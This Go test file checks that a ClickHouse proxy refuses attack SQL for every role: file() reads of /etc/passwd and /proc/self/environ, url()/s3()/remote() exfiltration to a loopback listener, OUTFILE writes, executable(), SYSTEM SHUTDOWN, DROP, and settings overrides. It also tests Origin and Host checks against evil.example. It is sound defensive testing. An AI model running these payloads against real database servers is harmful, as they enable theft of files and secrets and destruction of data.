package chserver_test

import (
	"context"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ClickHouse/clickhouse-go/v2/lib/driver"

	"github.com/kaizenhq/kaizen/internal/engine/chserver"
	"github.com/kaizenhq/kaizen/internal/testkit/chtest"
)

// outbound counts connections to a loopback listener the attacks point the
// engine at.
type outbound struct {
	addr  string
	count atomic.Int64
}

func newOutbound(t *testing.T) *outbound {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o := &outbound{addr: ln.Addr().String()}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			o.count.Add(1)
			_ = c.Close()
		}
	}()
	t.Cleanup(func() { _ = ln.Close() })
	return o
}

// send runs query as u over method and returns the status, exception code
// and body.
func send(t *testing.T, method string, u *chserver.User, query string, params url.Values, header http.Header) (int, string, string) {
	t.Helper()
	base := chtest.Server().URL()
	if u != nil {
		base = chtest.URLAs(*u)
	}
	params = maps.Clone(params)
	if params == nil {
		params = url.Values{}
	}
	var body io.Reader
	if method == http.MethodGet {
		params.Set("query", query)
	} else {
		body = strings.NewReader(query)
	}
	req, err := http.NewRequest(method, base+"/?"+params.Encode(), body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "text/plain")
	for k, v := range header {
		req.Header[k] = v
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header.Get("X-ClickHouse-Exception-Code"), string(b)
}

// TestAttacksRefused runs every attack of issue 10's table, with variants
// (comments, case, CTEs, views, subqueries, SETTINGS clauses), as each role
// over GET and POST: every one is refused with a ClickHouse error, leaves no
// file, makes no outbound connection and changes no schema.
func TestAttacksRefused(t *testing.T) {
	db := chtest.NewDatabase(t)
	chtest.Exec(t, "CREATE TABLE "+db+".llm_calls (id UInt64) ENGINE = MergeTree ORDER BY id",
		"INSERT INTO "+db+".llm_calls SELECT number FROM numbers(10)")
	out := newOutbound(t)
	planted := filepath.Join(t.TempDir(), "planted")
	host := strings.Replace(out.addr, "127.0.0.1", "localhost", 1)
	attacks := []string{
		"SELECT * FROM file('/etc/passwd','LineAsString')",
		"SELECT * FROM file('/proc/self/environ','RawBLOB')",
		"select * from FILE('/etc/passwd', 'LineAsString')",
		"SELECT /* comment */ * FROM -- x\n file('/etc/passwd','LineAsString')",
		"WITH x AS (SELECT * FROM file('/etc/passwd','LineAsString')) SELECT * FROM x",
		"SELECT count() FROM llm_calls WHERE id IN (SELECT length(line) FROM file('/etc/passwd','LineAsString'))",
		"SELECT file('/etc/passwd')",
		"SELECT * FROM fileCluster('default', '/etc/passwd', 'LineAsString')",
		"INSERT INTO FUNCTION file('" + planted + "','TSV') SELECT 'x'",
		"INSERT INTO FUNCTION file('" + planted + "','TSV') SELECT 'x' SETTINGS engine_file_truncate_on_insert=1",
		"SELECT 1 INTO OUTFILE '" + planted + "'",
		"INSERT INTO llm_calls FROM INFILE '/etc/passwd' FORMAT TSV",
		"SELECT * FROM url(concat('http://" + out.addr + "/leak?d=', base64Encode('x')), 'LineAsString')",
		"SELECT * FROM url('http://" + host + "/', 'LineAsString')",
		"SELECT * FROM urlCluster('default', 'http://" + out.addr + "/', 'LineAsString')",
		"SELECT * FROM s3('http://" + out.addr + "/b/k', 'CSV')",
		"SELECT * FROM remote('" + out.addr + "', system.one)",
		"SELECT * FROM remoteSecure('" + out.addr + "', system.one)",
		"SELECT * FROM mysql('" + out.addr + "', 'db', 't', 'u', 'p')",
		"SELECT * FROM postgresql('" + out.addr + "', 'db', 't', 'u', 'p')",
		"SELECT * FROM executable('x.sh', 'TSV', 'a String')",
		"SELECT * FROM url('http://" + chtest.Server().Addr() + "/?query=SELECT+42','LineAsString')",
		"CREATE TABLE leak (line String) ENGINE = URL('http://" + out.addr + "/', 'LineAsString')",
		"CREATE TABLE leak (line String) ENGINE = File(TSV)",
		"CREATE TABLE leak AS url('http://" + out.addr + "/', 'LineAsString', 'line String')",
		"CREATE MATERIALIZED VIEW leak_mv TO llm_calls AS SELECT id FROM url('http://" + out.addr + "/', 'CSV', 'id UInt64')",
		"CREATE MATERIALIZED VIEW leak_mv REFRESH EVERY 1 SECOND TO llm_calls AS SELECT 1 AS id",
		"CREATE VIEW v AS SELECT * FROM file('/etc/passwd','LineAsString')",
		"CREATE DICTIONARY d (line String) PRIMARY KEY line SOURCE(FILE(path '/etc/passwd' format 'LineAsString')) LAYOUT(FLAT()) LIFETIME(0)",
		"CREATE DATABASE leakdb ENGINE = MySQL('" + out.addr + "', 'db', 'u', 'p')",
		"CREATE TABLE leak (id UInt64) ENGINE = MergeTree ORDER BY id SETTINGS disk = disk(type = local, path = '" + planted + "/')",
		"SYSTEM SHUTDOWN",
		"system shutdown",
		"SYSTEM KILL",
		"SYSTEM STOP MERGES",
		"KILL QUERY WHERE 1",
		"DROP TABLE llm_calls",
		"drop /* x */ table llm_calls",
		"TRUNCATE TABLE llm_calls",
		"RENAME TABLE llm_calls TO gone",
		"DETACH TABLE llm_calls",
		"OPTIMIZE TABLE llm_calls FINAL",
		"ALTER TABLE llm_calls MODIFY SETTING parts_to_throw_insert=1",
		"ALTER TABLE llm_calls DELETE WHERE 1",
		"ALTER TABLE llm_calls DROP COLUMN id",
		"ALTER TABLE llm_calls FREEZE",
		"BACKUP TABLE llm_calls TO File('" + planted + "')",
		"SELECT sleep(1) SETTINGS max_execution_time=0",
		"SELECT 1 SETTINGS readonly=0",
		"SELECT * FROM (SELECT 1 SETTINGS max_execution_time=0)",
		"SELECT 1 SETTINGS allow_introspection_functions=1",
		"SELECT 1 SETTINGS max_memory_usage=0",
		"CREATE FUNCTION f AS x -> x",
		"INSERT INTO system.query_log SELECT * FROM system.query_log LIMIT 0",
		"SELECT 1; SYSTEM SHUTDOWN",
	}
	writer, reader := chtest.Writer(), chtest.Reader()
	params := url.Values{"database": {db}}
	ingest := startIngest(t, db)
	for _, attack := range attacks {
		for _, tc := range []struct {
			method string
			user   *chserver.User
		}{{http.MethodPost, &writer}, {http.MethodPost, &reader}, {http.MethodGet, &writer}, {http.MethodGet, &reader}, {http.MethodPost, nil}} {
			who := "anonymous"
			if tc.user != nil {
				who = tc.user.Role.String()
			}
			t.Run(fmt.Sprintf("%s %s %.60s", tc.method, who, attack), func(t *testing.T) {
				status, code, body := send(t, tc.method, tc.user, attack, params, nil)
				if status == http.StatusOK || code == "" || !strings.HasPrefix(body, "Code: ") {
					t.Errorf("not refused: %d %q %.300q", status, code, body)
				}
				// -v shows what each attack gets back, for the security notes.
				t.Logf("HTTP %d, %.160s", status, strings.SplitN(body, "\n", 2)[0])
			})
		}
	}
	ingest.stopAndCheck(t)
	// VALUES data is staged and read as data: a statement after it never runs.
	w := chtest.Writer()
	send(t, http.MethodPost, &w, "INSERT INTO llm_calls VALUES (100); SYSTEM SHUTDOWN", params, nil)
	if status, _, body := send(t, http.MethodPost, &w, "SELECT count() FROM llm_calls WHERE id < 100", params, nil); status != 200 || body != "10\n" {
		t.Errorf("after VALUES with a trailing statement: %d %q", status, body)
	}
	if n := out.count.Load(); n != 0 {
		t.Errorf("%d outbound connections reached the listener", n)
	}
	if _, err := os.Stat(planted); !os.IsNotExist(err) {
		t.Errorf("planted path exists: %v", err)
	}
	if got := chtest.Scalar(t, "SELECT count() FROM "+db+".llm_calls WHERE id < 100"); got != "10" {
		t.Errorf("llm_calls has %s rows after the attacks, want 10", got)
	}
	if got := chtest.Scalar(t, "SELECT groupArray(name) FROM system.tables WHERE database = '"+db+"'"); got != "['ingest','llm_calls']" {
		t.Errorf("tables after the attacks: %s", got)
	}
	if got := chtest.Scalar(t, "SELECT count() FROM system.databases WHERE name = 'leakdb'"); got != "0" {
		t.Errorf("leakdb was created")
	}
}

// ingester is a writer inserting batches the way the exporter does
// (clickhouse-go over HTTP) while the attacks run.
type ingester struct {
	db      string
	stop    chan struct{}
	done    chan struct{}
	batches int
	errs    []error
	slowest time.Duration
}

const ingestBatch = 100

func startIngest(t *testing.T, db string) *ingester {
	t.Helper()
	chtest.Exec(t, "CREATE TABLE "+db+".ingest (n UInt64) ENGINE = MergeTree ORDER BY n")
	conn := openHTTP(t, db)
	in := &ingester{db: db, stop: make(chan struct{}), done: make(chan struct{})}
	go func() {
		defer close(in.done)
		for i := 0; ; i++ {
			select {
			case <-in.stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
			started := time.Now()
			if err := ingestRows(conn, uint64(i)*ingestBatch); err != nil {
				in.errs = append(in.errs, err)
				continue
			}
			in.batches++
			in.slowest = max(in.slowest, time.Since(started))
		}
	}()
	return in
}

func ingestRows(conn driver.Conn, first uint64) error {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	b, err := conn.PrepareBatch(ctx, "INSERT INTO ingest")
	if err != nil {
		return err
	}
	for n := first; n < first+ingestBatch; n++ {
		if err := b.Append(n); err != nil {
			return err
		}
	}
	return b.Send()
}

// stopAndCheck stops the writer and checks that every batch landed during
// the attacks and that ingestion still works after them.
func (in *ingester) stopAndCheck(t *testing.T) {
	t.Helper()
	close(in.stop)
	<-in.done
	if len(in.errs) > 0 {
		t.Errorf("ingestion failed %d times during the attacks, first: %v", len(in.errs), in.errs[0])
	}
	if in.batches == 0 {
		t.Fatal("no batch was ingested during the attacks")
	}
	if err := ingestRows(openHTTP(t, in.db), 1<<40); err != nil {
		t.Errorf("ingestion after the attacks: %v", err)
	}
	want := strconv.Itoa((in.batches + 1) * ingestBatch)
	if got := chtest.Scalar(t, "SELECT count() FROM "+in.db+".ingest"); got != want {
		t.Errorf("ingest has %s rows, want %s", got, want)
	}
	t.Logf("ingested %d batches of %d rows during the attacks, slowest %v", in.batches, ingestBatch, in.slowest)
}

// TestEngineRunsOneStatementAtATime measures how many statements the engine
// runs at once, which the README states: three parallel one-second sleeps
// take about three seconds, and a trivial query waits behind them.
func TestEngineRunsOneStatementAtATime(t *testing.T) {
	w := chtest.Writer()
	const n = 3
	started := time.Now()
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			if status, _, body := send(t, http.MethodPost, &w, "SELECT sleep(1)", nil, nil); status != http.StatusOK {
				t.Errorf("sleep: %d %q", status, body)
			}
		})
	}
	time.Sleep(100 * time.Millisecond)
	one := time.Now()
	send(t, http.MethodPost, &w, "SELECT 1", nil, nil)
	waited := time.Since(one)
	wg.Wait()
	elapsed := time.Since(started)
	t.Logf("%d parallel SELECT sleep(1): %v; SELECT 1 sent meanwhile waited %v", n, elapsed, waited)
	if elapsed < n*time.Second-200*time.Millisecond {
		t.Errorf("%d parallel one-second sleeps took %v: the engine runs statements in parallel, update the README", n, elapsed)
	}
}

// TestBrowsersRefused: a cross-site POST carries an Origin header, a
// DNS-rebinding page a foreign Host; both are refused before
// authentication, with the right credentials too.
func TestBrowsersRefused(t *testing.T) {
	w := chtest.Writer()
	for _, tt := range []struct {
		name   string
		header http.Header
		host   string
	}{
		{name: "foreign origin", header: http.Header{"Origin": {"http://evil.example"}}},
		{name: "null origin", header: http.Header{"Origin": {"null"}}},
		{name: "foreign host", host: "evil.example:8123"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			req, err := http.NewRequest(http.MethodPost, chtest.URLAs(w)+"/", strings.NewReader("SELECT 42"))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Content-Type", "text/plain")
			for k, v := range tt.header {
				req.Header[k] = v
			}
			if tt.host != "" {
				req.Host = tt.host
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-ClickHouse-Exception-Code") != "497" {
				t.Errorf("status %d %q", resp.StatusCode, b)
			}
		})
	}
	// localhost and 127.0.0.1 both name a loopback-bound server.
	for _, host := range []string{"localhost", "127.0.0.1"} {
		_, port, _ := net.SplitHostPort(chtest.Server().Addr())
		req, _ := http.NewRequest(http.MethodPost, chtest.URLAs(w)+"/", strings.NewReader("SELECT 42"))
		req.Host = net.JoinHostPort(host, port)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Errorf("Host %s: status %d, want 200", req.Host, resp.StatusCode)
		}
	}
}

// TestLegitimateSQL: what Grafana dashboards, the exporter and kaizen run
// still works, each role doing what it may.
func TestLegitimateSQL(t *testing.T) {
	db := chtest.NewDatabase(t)
	chtest.Exec(t, "CREATE TABLE "+db+".calls (trace String, model String, cost Float64, ts DateTime) ENGINE = ReplacingMergeTree ORDER BY (trace, ts)",
		"INSERT INTO "+db+".calls VALUES ('a','gpt-4o',1.5,'2026-01-01 00:00:00'), ('a','gpt-4o-mini',0.5,'2026-01-01 00:01:00'), ('b','gpt-4o',2,'2026-01-02 00:00:00')")
	writer, reader := chtest.Writer(), chtest.Reader()
	params := url.Values{"database": {db}}
	reads := []struct{ sql, want string }{
		{"WITH t AS (SELECT trace, sum(cost) AS c FROM calls GROUP BY trace) SELECT trace, c FROM t ORDER BY c DESC", "b\t2\na\t2\n"},
		{"SELECT trace, model, sum(cost) OVER (PARTITION BY trace ORDER BY ts) FROM calls FINAL ORDER BY trace, ts", "a\tgpt-4o\t1.5\na\tgpt-4o-mini\t2\nb\tgpt-4o\t2\n"},
		{"SELECT trace, model FROM calls ORDER BY cost DESC LIMIT 1 BY trace", "b\tgpt-4o\na\tgpt-4o\n"},
		{"SELECT toStartOfDay(ts) AS d, count() FROM calls GROUP BY d ORDER BY d WITH FILL STEP toIntervalDay(1)", "2026-01-01 00:00:00\t2\n2026-01-02 00:00:00\t1\n"},
		{"SELECT number FROM numbers(2)", "0\n1\n"},
		{"SHOW TABLES", "calls\n"},
		{"EXISTS TABLE calls", "1\n"},
		{"SELECT name FROM system.tables WHERE database = currentDatabase()", "calls\n"},
	}
	for _, r := range reads {
		for _, u := range []chserver.User{writer, reader} {
			for _, method := range []string{http.MethodGet, http.MethodPost} {
				status, _, body := send(t, method, &u, r.sql, params, nil)
				if status != http.StatusOK || body != r.want {
					t.Errorf("%s %s %q: %d %q, want %q", u.Role, method, r.sql, status, body, r.want)
				}
			}
		}
	}
	withParam := url.Values{"database": {db}, "param_model": {"gpt-4o"}}
	if status, _, body := send(t, http.MethodPost, &reader, "SELECT count() FROM calls WHERE model = {model:String}", withParam, nil); status != 200 || body != "2\n" {
		t.Errorf("query parameter: %d %q", status, body)
	}
	// A reader runs under readonly=1: settings go in URL parameters, not
	// in the SQL; the writer may lower its limits in SQL.
	withSettings := "SELECT count() FROM calls WHERE ts >= toDateTime('2026-01-01') SETTINGS max_threads = 2, max_execution_time = 30"
	if status, _, body := send(t, http.MethodPost, &writer, withSettings, params, nil); status != 200 || body != "3\n" {
		t.Errorf("writer SETTINGS: %d %q", status, body)
	}
	if status, code, _ := send(t, http.MethodPost, &reader, withSettings, params, nil); status != http.StatusForbidden || code != "164" {
		t.Errorf("reader SETTINGS in SQL: %d code %s, want 403 / 164", status, code)
	}
	urlSettings := url.Values{"database": {db}, "max_threads": {"2"}, "max_execution_time": {"30"}}
	if status, _, body := send(t, http.MethodGet, &reader, "SELECT count() FROM calls", urlSettings, nil); status != 200 || body != "3\n" {
		t.Errorf("reader URL settings: %d %q", status, body)
	}
	for _, bad := range []url.Values{{"readonly": {"0"}}, {"allow_introspection_functions": {"1"}}, {"max_memory_usage": {"0"}}} {
		bad.Set("database", db)
		if status, code, _ := send(t, http.MethodPost, &writer, "SELECT 1", bad, nil); status != http.StatusForbidden || code != "497" {
			t.Errorf("URL setting %v: %d code %s, want 403 / 497", bad, status, code)
		}
	}
	// The reader may not write; the writer may insert and migrate.
	if status, code, _ := send(t, http.MethodPost, &reader, "INSERT INTO calls VALUES ('c','x',1,now())", params, nil); status != http.StatusForbidden || code != "164" {
		t.Errorf("reader INSERT: %d code %s, want 403 / 164 READONLY", status, code)
	}
	for _, stmt := range []string{
		"INSERT INTO calls VALUES ('c','x',1,'2026-01-03 00:00:00')",
		"INSERT INTO calls SELECT 'd', 'y', 2, toDateTime('2026-01-04 00:00:00')",
		"CREATE TABLE IF NOT EXISTS rollup (day Date, cost Float64) ENGINE = SummingMergeTree ORDER BY day SETTINGS index_granularity = 8192",
		"CREATE MATERIALIZED VIEW IF NOT EXISTS rollup_mv TO rollup AS SELECT toDate(ts) AS day, cost FROM calls",
		"ALTER TABLE calls ADD COLUMN IF NOT EXISTS agent String DEFAULT ''",
		"ALTER TABLE calls MODIFY SETTING non_replicated_deduplication_window = 100",
		"ALTER TABLE calls ADD INDEX IF NOT EXISTS idx_model model TYPE bloom_filter(0.01) GRANULARITY 1",
	} {
		if status, _, body := send(t, http.MethodPost, &writer, stmt, params, nil); status != http.StatusOK {
			t.Errorf("writer %q: %d %q", stmt, status, body)
		}
	}
	if got := chtest.Scalar(t, "SELECT count() FROM "+db+".calls"); got != "5" {
		t.Errorf("calls has %s rows, want 5", got)
	}
}

// TestEngineLimits: the engine-wide max_execution_time is the server's
// query timeout, and a client may lower its own.
func TestEngineLimits(t *testing.T) {
	if got := chtest.Scalar(t, "SELECT getSetting('max_execution_time')"); got != "300" {
		t.Errorf("engine-wide max_execution_time = %s, want 300 (the 5m default query timeout)", got)
	}
	w := chtest.Writer()
	status, code, _ := send(t, http.MethodPost, &w, "SELECT sleep(2) SETTINGS max_execution_time = 1", nil, nil)
	if status == http.StatusOK || code != "159" {
		t.Errorf("lowered timeout: %d code %s, want TIMEOUT_EXCEEDED", status, code)
	}
}
